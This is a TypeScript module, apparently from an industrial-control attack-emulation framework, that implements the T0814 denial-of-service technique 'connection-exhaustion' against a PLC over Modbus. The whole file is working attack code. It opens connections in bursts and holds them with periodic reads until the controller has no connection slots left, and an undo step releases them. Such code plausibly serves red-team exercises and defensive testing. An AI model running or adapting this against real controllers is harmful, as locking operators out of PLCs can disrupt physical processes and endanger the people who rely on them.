// T0814 Denial of Service: a foreign client takes one connection after the other and keeps them, until the PLC has none left.
import { z } from 'zod'
import { LinkFault, type ModbusLink } from '../plc/modbus-link.ts'
import type { Attack } from './attack.ts'
import { EverySeconds } from './burst.ts'

const READ_ONE_BIT = Uint8Array.of(1, 0, 0, 0, 1)

const Parameters = z.strictObject({
  connections: z.int().min(1).max(200).default(32).describe('How many connections it tries to keep.'),
  perStrike: z.int().min(1).max(50).default(8).describe('How many it opens at each strike.'),
  everySeconds: EverySeconds
})

export const connectionExhaustion = {
  name: 'connection-exhaustion',
  title: { zh: '连接耗尽', en: 'Exhausted connections' },
  technique: 'T0814',
  parameters: Parameters,
  async aim(foothold, { connections, perStrike, everySeconds }) {
    const first = await foothold.link()
    const held = new Set<ModbusLink>([first])
    // A connection that says nothing may have been cut long ago, or idles out: each is used now and then.
    const dropDead = async () => {
      for (const link of held) {
        const fault = await link.request(READ_ONE_BIT).then(() => null, ourFaultIsThrown)
        if (fault === null) continue
        held.delete(link)
        await link[Symbol.asyncDispose]()
        // A PLC that answers nobody would hold up the strike once for each of them.
        if (fault.code === 'LINK_TIMEOUT') return
      }
    }
    // When none is left it has what it wants.
    const take = () => foothold.link().then((link) => void held.add(link), ourFaultIsThrown)
    return {
      ...{ tags: [], hosts: [first.host], insistSeconds: everySeconds },
      async strike() {
        await dropDead()
        for (let opened = 0; opened < perStrike && held.size < connections; opened++) await take()
      },
      async undo() {
        for (const link of held) await link[Symbol.asyncDispose]()
        held.clear()
      }
    }
  }
} satisfies Attack<typeof Parameters>

function ourFaultIsThrown(fault: unknown): LinkFault {
  if (fault instanceof LinkFault) return fault
  throw fault
}
